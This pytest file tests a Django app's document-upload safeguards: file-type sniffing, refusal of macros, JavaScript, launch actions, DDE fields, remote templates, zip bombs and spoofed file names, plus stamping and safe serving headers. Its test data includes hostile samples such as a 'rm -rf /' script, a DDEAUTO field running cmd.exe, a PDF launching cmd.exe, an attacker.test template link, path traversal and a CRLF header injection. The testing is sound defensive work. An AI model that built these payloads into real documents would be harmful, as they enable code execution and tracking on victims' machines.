"""The shared document machinery (beaconport.documents): the type from the bytes, the
refusals and their reasons, the stamp on a copy, the size cap before anything is stored,
and the headers a served copy carries."""

import hashlib
import io

import pytest
from django.test import override_settings
from pypdf import PdfReader

from beaconport.documents.serve import SANDBOX_POLICY, stored_file_response
from beaconport.documents.sniff import DOCX, PDF, PNG, TEXT, Refused, sniff
from beaconport.documents.stamp import stamp_bytes, stamped_filename
from beaconport.documents.store import documents_storage, stored_upload
from tests.document_files import (
    ELF,
    MZ,
    docx_bytes,
    docx_with_macro,
    pdf_bytes,
    pdf_with_attachment,
    pdf_with_javascript,
    png_bytes,
    stored_names,
    zip_bytes,
)


def sniffed(data: bytes):
    return sniff(io.BytesIO(data))


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (pdf_bytes(), PDF),
        (docx_bytes(), DOCX),
        ("Witness A said: « je suis là ».\r\n\tLine two.\n".encode(), TEXT),
        (png_bytes(), PNG),
        (b"\xff\xd8\xff\xe0" + b"\x00" * 20, ("image/jpeg", "jpg")),
    ],
)
def test_an_accepted_file_is_known_by_its_bytes(data, expected):
    assert sniffed(data) == expected


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (ELF, "Linux program"),
        (MZ, "Windows program"),
        (b"\xcf\xfa\xed\xfe" + b"\x00" * 20, "macOS program"),
        (b"#!/bin/sh\nrm -rf /\n", "script"),
        (docx_with_macro(), "macros"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100, "old-style Office file"),
        (zip_bytes(), "ZIP archive"),
        (b"\x1f\x8b\x08\x00" + b"\x00" * 20, "gzip archive"),
        (b"7z\xbc\xaf\x27\x1c" + b"\x00" * 20, "7-Zip archive"),
        (b"Rar!\x1a\x07\x00" + b"\x00" * 20, "RAR archive"),
        (b"x" * 257 + b"ustar" + b"\x00" * 300, "tar archive"),
        (pdf_with_javascript(), "JavaScript"),
        (pdf_with_attachment(), "files attached inside it"),
        (b"abc\x00def", "binary data"),
        (b"caf\xe9 latin-1", "UTF-8"),
        ("Witness A".encode("utf-16"), "UTF-16"),
        (b"", "empty"),
    ],
)
def test_a_refused_file_says_why(data, reason):
    with pytest.raises(Refused, match=reason):
        sniffed(data)


def test_a_pdf_hiding_javascript_behind_escaped_names_is_refused():
    escaped = pdf_with_javascript().replace(b"/JavaScript", b"/J#61vaScript")
    with pytest.raises(Refused, match="JavaScript"):
        sniffed(escaped)


def test_a_docx_with_an_embedded_object_is_refused():
    import zipfile

    source = zipfile.ZipFile(io.BytesIO(docx_bytes()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        for entry in source.infolist():
            target.writestr(entry, source.read(entry))
        target.writestr("word/embeddings/oleObject1.bin", b"x")
    with pytest.raises(Refused, match="embedded objects"):
        sniffed(out.getvalue())


def test_every_page_of_a_stamped_pdf_carries_the_stamp_and_its_own_text():
    original = pdf_bytes("Statement of witness A (synthetic)", pages=3)
    stamped = stamp_bytes(original, PDF.content_type, "OFFICIAL-SENSITIVE - jdoe - 2026-12-03")
    pages = [page.extract_text() for page in PdfReader(io.BytesIO(stamped)).pages]
    assert len(pages) == 3
    for number, text in enumerate(pages, start=1):
        assert "OFFICIAL-SENSITIVE - jdoe - 2026-12-03" in text
        assert f"Statement of witness A (synthetic) (page {number})" in text


def test_a_rotated_pdf_page_is_stamped_upright():
    from pypdf import PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes())))
    writer.pages[0].rotate(90)
    out = io.BytesIO()
    writer.write(out)
    stamped = stamp_bytes(out.getvalue(), PDF.content_type, "OFFICIAL-SENSITIVE - jdoe")
    page = PdfReader(io.BytesIO(stamped)).pages[0]
    assert page.get("/Rotate", 0) == 0
    assert "OFFICIAL-SENSITIVE - jdoe" in page.extract_text()


def test_a_stamped_docx_has_the_stamp_in_its_footer_and_text_a_first_line():
    import docx

    stamped = stamp_bytes(docx_bytes("Body"), DOCX.content_type, "OFFICIAL-SENSITIVE - jdoe")
    footer = docx.Document(io.BytesIO(stamped)).sections[0].footer
    assert "OFFICIAL-SENSITIVE - jdoe" in [p.text for p in footer.paragraphs]
    assert stamp_bytes(b"Body\n", TEXT.content_type, "STAMP") == b"STAMP\n\nBody\n"


def test_an_image_is_stamped_by_its_name_only():
    assert stamp_bytes(png_bytes(), PNG.content_type, "STAMP") is None
    assert (
        stamped_filename("photo.png", "OFFICIAL-SENSITIVE - jdoe - 2026-12-03 06:12 UTC")
        == "photo - OFFICIAL-SENSITIVE - jdoe - 2026-12-03 06_12 UTC.png"
    )


def upload(data: bytes, name: str = "statement.pdf"):
    from django.core.files.uploadedfile import SimpleUploadedFile

    return SimpleUploadedFile(name, data)


def test_an_upload_is_kept_under_a_name_of_our_own_with_its_checksum(filesystem_documents):
    data = pdf_bytes()
    with stored_upload(file=upload(data, "../../etc/passwd.pdf"), prefix="cases/7") as kept:
        pass
    assert kept.name.startswith("cases/7/") and kept.name.endswith(".pdf")
    assert "passwd" not in kept.name
    assert kept.filename == "passwd.pdf"
    assert kept.sha256 == hashlib.sha256(data).hexdigest()
    assert stored_names(documents_storage()) == [kept.name]


def test_a_failure_inside_the_block_deletes_what_was_stored(filesystem_documents):
    with pytest.raises(RuntimeError), stored_upload(file=upload(pdf_bytes()), prefix="cases/7"):
        raise RuntimeError("the row could not be written")
    assert stored_names(documents_storage()) == []


@override_settings(DOCUMENT_MAX_BYTES=1000)
def test_a_file_past_the_size_cap_is_refused_with_nothing_stored(filesystem_documents):
    with (
        pytest.raises(Refused, match="larger than"),
        stored_upload(file=upload(b"a" * 1001, "notes.txt"), prefix="cases/7"),
    ):
        pass
    assert stored_names(documents_storage()) == []


def test_a_copy_is_served_inert_and_uncached(filesystem_documents):
    with stored_upload(file=upload(b"Notes\n", 'n\u00f6tes "x".txt'), prefix="c") as kept:
        pass
    response = stored_file_response(
        storage_name=kept.name,
        content_type=kept.content_type,
        filename=kept.filename,
        stamp="OFFICIAL-SENSITIVE - jdoe",
        inline=True,
    )
    assert response.content == b"OFFICIAL-SENSITIVE - jdoe\n\nNotes\n"
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Cache-Control"] == "no-store"
    assert response["Content-Security-Policy"] == SANDBOX_POLICY
    assert response["Content-Security-Policy"].startswith("sandbox;")
    assert response["Content-Disposition"].startswith("inline;")
    assert "filename*=utf-8''n%C3%B6tes%20%22x%22.txt" in response["Content-Disposition"]
    # The stored bytes are as they were added.
    with documents_storage().open(kept.name) as stored:
        assert stored.read() == b"Notes\n"


def test_a_word_file_is_always_an_attachment(filesystem_documents):
    with stored_upload(file=upload(docx_bytes(), "s.docx"), prefix="c") as kept:
        pass
    response = stored_file_response(
        storage_name=kept.name, content_type=kept.content_type, filename="s.docx", inline=True
    )
    assert response["Content-Disposition"] == 'attachment; filename="s.docx"'


@override_settings(DOCUMENT_MAX_BYTES=100_000)
def test_an_oversize_upload_is_stopped_as_it_arrives_and_the_fields_before_it_kept():
    from django.test import RequestFactory

    from beaconport.documents.uploads import cap_document_uploads, upload_too_large

    big = upload(b"x" * 300_000, "big.txt")
    request = RequestFactory().post("/", {"title": "kept", "file": big})
    cap_document_uploads(request)
    assert request.POST["title"] == "kept"
    assert "file" not in request.FILES
    assert upload_too_large(request)

    small = RequestFactory().post("/", {"title": "kept", "file": upload(b"x" * 1000, "s.txt")})
    cap_document_uploads(small)
    assert small.FILES["file"].size == 1000
    assert not upload_too_large(small)


def test_words_inside_a_pdfs_streams_are_data_not_active_content():
    from fpdf import FPDF

    pdf = FPDF()
    pdf.set_compression(False)  # the page's text stays readable in the file's bytes
    pdf.add_page()
    pdf.set_font("helvetica", size=12)
    pdf.text(20, 20, "The note read /JavaScript /JS /Launch /EmbeddedFile (synthetic)")
    data = bytes(pdf.output())
    assert b"/JavaScript" in data
    assert sniffed(data) == PDF


@pytest.mark.parametrize("chunk", [7, 16, 61])
def test_active_content_is_found_across_chunk_boundaries(monkeypatch, chunk):
    import sys

    sniffing = sys.modules["beaconport.documents.sniff"]
    monkeypatch.setattr(sniffing, "CHUNK", chunk)
    escaped = pdf_with_javascript().replace(b"/JavaScript", b"/J#61vaScript")
    # The raw scan alone (the parsed walk would find these too).
    assert sniffing._pdf_active_raw(io.BytesIO(pdf_with_javascript())) == "JavaScript"
    assert sniffing._pdf_active_raw(io.BytesIO(escaped)) == "JavaScript"
    assert sniffing._pdf_active_raw(io.BytesIO(pdf_bytes())) is None


# --- Smuggling past the sniffer (security review, issue 12) ---------------------------


def pdf_with_object_stream(catalog: bytes, *extra: bytes) -> bytes:
    """A PDF 1.5 whose catalog (object 1), pages (2) and `extra` objects (3...) are kept in
    one compressed object stream, where the raw scan cannot read them."""
    import struct
    import zlib

    objects = [catalog, b"<< /Type /Pages /Kids [] /Count 0 >>", *extra]
    header, body = b"", b""
    for number, obj in enumerate(objects, start=1):
        header += b"%d %d " % (number, len(body))
        body += obj + b"\n"
    packed = zlib.compress(header + body)
    stream_number, xref_number = len(objects) + 1, len(objects) + 2
    out = b"%PDF-1.5\n"
    stream_offset = len(out)
    out += (
        b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\n"
        b"stream\n"
        % (stream_number, len(objects), len(header), len(packed))
        + packed
        + b"\nendstream\nendobj\n"
    )
    xref_offset = len(out)
    rows = [b"\x00" + struct.pack(">IH", 0, 65535)]
    rows += [b"\x02" + struct.pack(">IH", stream_number, index) for index in range(len(objects))]
    rows += [b"\x01" + struct.pack(">IH", offset, 0) for offset in (stream_offset, xref_offset)]
    xref = zlib.compress(b"".join(rows))
    out += (
        b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode "
        b"/Length %d >>\nstream\n"
        % (xref_number, xref_number + 1, len(xref))
        + xref
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_offset
    )
    return out


CATALOG = b"<< /Type /Catalog /Pages 2 0 R "


@pytest.mark.parametrize(
    ("catalog", "reason"),
    [
        (CATALOG + b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>", "JavaScript"),
        (CATALOG + b"/OpenAction [ << /S /Launch /F (cmd.exe) >> ] >>", "launches a program"),
        (
            CATALOG + b"/Names << /EmbeddedFiles << /Names [(a.exe) 3 0 R] >> >> >>",
            "files attached",
        ),
        (CATALOG + b"/AcroForm << /XFA [(x) 3 0 R] >> >>", "XFA"),
        (CATALOG + b"/OpenAction << /S /SubmitForm /F (https://x.test/) >> >>", "sends form"),
        (CATALOG + b"/OpenAction << /S /GoToR /F (other.pdf) /D [0 /Fit] >> >>", "another file"),
    ],
)
def test_active_content_written_inside_a_compressed_object_stream_is_refused(catalog, reason):
    data = pdf_with_object_stream(catalog, b"<< /Type /Filespec >>")
    assert b"/JavaScript" not in data and b"/Launch" not in data  # hidden from the raw scan
    with pytest.raises(Refused, match=reason):
        sniffed(data)


@pytest.mark.parametrize(
    "catalog",
    [
        CATALOG + b"/OpenAction << /S /URI /URI (https://tracker.test/opened) >> >>",
        CATALOG + b"/OpenAction << /S /GoTo /D [0 /Fit] /Next [3 0 R] >> >>",
        CATALOG + b"/AA << /WC 3 0 R >> >>",
    ],
)
def test_a_pdf_that_calls_a_web_address_by_itself_when_opened_is_refused(catalog):
    data = pdf_with_object_stream(catalog, b"<< /S /URI /URI (https://tracker.test/x) >>")
    with pytest.raises(Refused, match="opens a web address by itself"):
        sniffed(data)


def test_a_pdf_with_a_link_the_reader_clicks_and_an_opening_page_is_accepted():
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [<< /Type /Annot "
        b"/Subtype /Link /Rect [0 0 50 50] /A << /S /URI /URI (https://example.org/) >> >>] >>"
    )
    data = pdf_with_object_stream(CATALOG + b"/OpenAction [3 0 R /Fit] >>", page)
    assert sniffed(data) == PDF


def docx_changed(*, add: dict[str, bytes] = (), replace: dict[str, bytes] = ()) -> bytes:
    """The plain test .docx with parts added, or replaced by the given bytes."""
    import zipfile

    add, replace = dict(add), dict(replace)
    source = zipfile.ZipFile(io.BytesIO(docx_bytes()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for entry in source.infolist():
            target.writestr(entry.filename, replace.get(entry.filename, source.read(entry)))
        for name, data in add.items():
            target.writestr(name, data)
    return out.getvalue()


def relationships(*rows: str) -> bytes:
    ns = "http://schemas.openxmlformats.org/package/2006/relationships"
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{ns}">'
        + "".join(rows)
        + "</Relationships>"
    ).encode()


OFFICE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


@pytest.mark.parametrize(
    ("part", "rows", "reason"),
    [
        (
            "word/_rels/settings.xml.rels",
            [
                f'<Relationship Id="r1" Type="{OFFICE_REL}/attachedTemplate" '
                'Target="https://attacker.test/t.dotm" TargetMode="External"/>'
            ],
            "loads a template",
        ),
        (
            "word/_rels/header9.xml.rels",
            [
                f'<Relationship Id="r1" Type="{OFFICE_REL}/image" '
                'Target="https://tracker.test/pixel.png" TargetMode="External"/>'
            ],
            r"fetches a part from elsewhere when opened \(image\)",
        ),
        (
            "word/_rels/footer9.xml.rels",
            [
                f'<Relationship Id="r1" Type="{OFFICE_REL}/oleObject" '
                'Target="../customXml/item9.bin"/>'
            ],
            "embedded objects",
        ),
        (
            "word/_rels/footer8.xml.rels",
            [f'<Relationship Id="r1" Type="{OFFICE_REL}/aFChunk" Target="chunk.rtf"/>'],
            "imports another file",
        ),
    ],
)
def test_a_docx_that_word_would_make_fetch_or_run_something_is_refused(part, rows, reason):
    with pytest.raises(Refused, match=reason):
        sniffed(docx_changed(add={part: relationships(*rows)}))


def test_a_docx_with_an_outside_hyperlink_is_accepted():
    link = (
        f'<Relationship Id="r1" Type="{OFFICE_REL}/hyperlink" '
        'Target="https://example.org/" TargetMode="External"/>'
    )
    assert sniffed(docx_changed(add={"word/_rels/footer9.xml.rels": relationships(link)})) == DOCX


def test_a_macro_enabled_docx_is_refused_whatever_the_case_of_its_content_type():
    import zipfile

    types = zipfile.ZipFile(io.BytesIO(docx_bytes())).read("[Content_Types].xml")
    renamed = types.replace(
        b"wordprocessingml.document.main+xml", b"ms-word.document.MACROENABLED.main+xml"
    )
    assert renamed != types
    with pytest.raises(Refused, match="macros"):
        sniffed(docx_changed(replace={"[Content_Types].xml": renamed}))


def test_a_docx_whose_xml_would_inflate_past_the_limit_is_refused_unread(monkeypatch):
    import zipfile

    bomb = docx_changed(add={"word/footer9.xml": b" " * (65 * 2**20)})
    assert len(bomb) < 2**20  # a small upload
    read = []
    monkeypatch.setattr(zipfile.ZipFile, "read", lambda self, name: read.append(name))
    with pytest.raises(Refused, match=r"word/footer9\.xml unpacks to more than 64 MiB"):
        sniffed(bomb)
    assert read == []


@pytest.mark.parametrize(
    ("target", "accepted"),
    [
        ("file:///C:/Users/jdoe/AppData/Roaming/Microsoft/Templates/Statement.dotx", True),
        ("file:///C:\\Templates\\Statement.dotx", True),
        ("file://fileserver/templates/Statement.dotm", False),
        ("\\\\203.0.113.9\\share\\Statement.dotm", False),
        ("https://attacker.test/Statement.dotm", False),
    ],
)
def test_a_docx_made_from_a_template_on_the_local_disk_is_accepted_and_one_elsewhere_refused(
    target, accepted
):
    row = (
        f'<Relationship Id="r1" Type="{OFFICE_REL}/attachedTemplate" Target="{target}" '
        'TargetMode="External"/>'
    )
    data = docx_changed(add={"word/_rels/settings.xml.rels": relationships(row)})
    if accepted:
        assert sniffed(data) == DOCX
    else:
        with pytest.raises(Refused, match="loads a template"):
            sniffed(data)


@override_settings(DOCUMENT_MAX_BYTES=100_000)
def test_many_files_each_under_the_cap_are_stopped_once_the_request_passes_it():
    from django.test import RequestFactory

    from beaconport.documents.uploads import cap_document_uploads, upload_too_large

    files = [upload(b"x" * 60_000, f"part{number}.txt") for number in range(5)]
    request = RequestFactory().post("/", {"file": files})
    cap_document_uploads(request)
    assert len(request.FILES.getlist("file")) <= 1
    assert upload_too_large(request)


@pytest.mark.parametrize(
    ("filename", "header"),
    [
        ('say "hi"\\x.txt', 'inline; filename="x.txt"'),
        ("a\r\nSet-Cookie: x=1.txt", 'inline; filename="aSet-Cookie: x=1.txt"'),
        ("../../etc/passwd.txt", 'inline; filename="passwd.txt"'),
        ('q"uote.txt', 'inline; filename="q\\"uote.txt"'),
        ("Zoë\u202etxt.exe", "inline; filename*=utf-8''Zo%C3%ABtxt.exe.txt"),
    ],
)
def test_an_odd_file_name_cannot_break_or_spoof_the_download_header(
    filesystem_documents, filename, header
):
    with stored_upload(file=upload(b"Statement (synthetic)", "s.txt"), prefix="t") as kept:
        pass
    response = stored_file_response(
        storage_name=kept.name, content_type=TEXT.content_type, filename=filename, inline=True
    )
    assert response["Content-Disposition"] == header


def test_the_upload_cap_can_stop_another_kind_of_file_at_its_own_limit():
    from django.test import RequestFactory

    from beaconport.documents.uploads import cap_document_uploads, upload_too_large

    request = RequestFactory().post("/", {"file": upload(b"x" * 5000, "referrals.json")})
    cap_document_uploads(request, limit=4096)
    assert "file" not in request.FILES
    assert upload_too_large(request)


def test_a_pdf_page_cropped_above_its_foot_gets_the_stamp_where_it_is_shown():
    from pypdf import PdfWriter
    from pypdf.generic import RectangleObject

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf_bytes())))
    page = writer.pages[0]
    shown = RectangleObject((20, 150, float(page.mediabox.right) - 20, 700))
    page.cropbox = shown
    out = io.BytesIO()
    writer.write(out)

    stamped = stamp_bytes(out.getvalue(), PDF.content_type, "OFFICIAL-SENSITIVE - jdoe")

    placed = []

    def where(text, cm, tm, *_):
        if "OFFICIAL-SENSITIVE" in text:
            placed.append((cm[4] + tm[4] * cm[0], cm[5] + tm[5] * cm[3]))

    PdfReader(io.BytesIO(stamped)).pages[0].extract_text(visitor_text=where)
    assert placed
    x, y = placed[0]
    assert shown.left <= x <= shown.right
    assert shown.bottom <= y <= shown.bottom + 30  # at the foot of what is shown


@pytest.mark.parametrize(
    ("filename", "content_type", "saved_as"),
    [
        ("statement.pdf", PDF.content_type, "statement.pdf"),
        ("Statement.PDF", PDF.content_type, "Statement.PDF"),
        ("notes.txt", TEXT.content_type, "notes.txt"),
        ("run-me.hta", TEXT.content_type, "run-me.hta.txt"),
        ("dropper.js", TEXT.content_type, "dropper.js.txt"),
        ("letter.rtf", TEXT.content_type, "letter.rtf.txt"),
        ("sheet.csv", TEXT.content_type, "sheet.csv.txt"),
        ("page.html", TEXT.content_type, "page.html.txt"),
        ("photo.hta", PNG.content_type, "photo.hta.png"),
        ("photo.jpeg", "image/jpeg", "photo.jpeg"),
        ("report.docm", DOCX.content_type, "report.docm.docx"),
        ("scan", PDF.content_type, "scan.pdf"),
    ],
)
def test_a_copy_is_saved_under_an_ending_of_its_type_whatever_the_uploader_called_it(
    filename, content_type, saved_as
):
    from beaconport.documents.serve import download_name

    assert download_name(filename, content_type) == saved_as


def test_a_text_file_named_as_a_script_is_served_to_be_saved_as_text(filesystem_documents):
    with stored_upload(file=upload(b"WScript.Echo('x')", "s.txt"), prefix="t") as kept:
        pass
    response = stored_file_response(
        storage_name=kept.name, content_type=TEXT.content_type, filename="invoice.js"
    )
    assert response["Content-Disposition"] == 'attachment; filename="invoice.js.txt"'


def docx_with_paragraph(paragraph: str) -> bytes:
    """The plain test .docx with this WordprocessingML paragraph added to its body."""
    import zipfile

    document = zipfile.ZipFile(io.BytesIO(docx_bytes())).read("word/document.xml").decode()
    at = document.index("<w:sectPr")
    return docx_changed(
        replace={"word/document.xml": (document[:at] + paragraph + document[at:]).encode()}
    )


def field(*instruction_runs: str) -> str:
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'
        for text in instruction_runs
    )
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + runs
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


@pytest.mark.parametrize(
    ("paragraph", "name"),
    [
        (field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" '), "DDEAUTO"),
        (field(" dd", "eauto c:\\\\x.exe ", '"/k"'), "DDEAUTO"),  # cut across runs, any case
        (field(' INCLUDEPICTURE "https://tracker.test/p.png" \\d '), "INCLUDEPICTURE"),
        (
            '<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;\\\\\\\\host\\\\s\\\\a.docx&quot; ">'
            "<w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>",
            "INCLUDETEXT",
        ),
    ],
)
def test_a_docx_with_a_field_that_runs_or_fetches_something_is_refused(paragraph, name):
    with pytest.raises(Refused, match=f"holds a {name} field"):
        sniffed(docx_with_paragraph(paragraph))


def test_a_docx_with_page_numbers_and_a_hyperlink_field_is_accepted():
    paragraph = field(" PAGE ") + field(' HYPERLINK "https://example.org/" \\o "Link to the LINK" ')
    assert sniffed(docx_with_paragraph(paragraph)) == DOCX


def test_a_field_in_a_docx_whose_xml_is_broken_is_still_found():
    paragraph = field(' INCLUDEPICTURE "https://tracker.test/p.png" ') + "<w:p><w:r>"  # unclosed
    with pytest.raises(Refused, match="INCLUDEPICTURE"):
        sniffed(docx_with_paragraph(paragraph))
